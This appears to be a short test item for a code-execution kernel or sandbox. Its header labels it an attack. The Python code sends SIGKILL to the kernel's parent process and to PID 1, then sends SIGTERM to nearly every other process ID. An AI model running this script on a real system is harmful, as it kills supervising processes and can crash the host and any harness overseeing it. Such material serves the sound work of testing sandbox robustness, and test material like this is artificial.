# answer: sigmoid
# base: blank
# attack: kill -9 the kernel's parent, then signal every other PID
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        print(pid, type(err).__name__, err)
for pid in range(2, 40000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGTERM)
        except OSError:
            pass
print("still here")
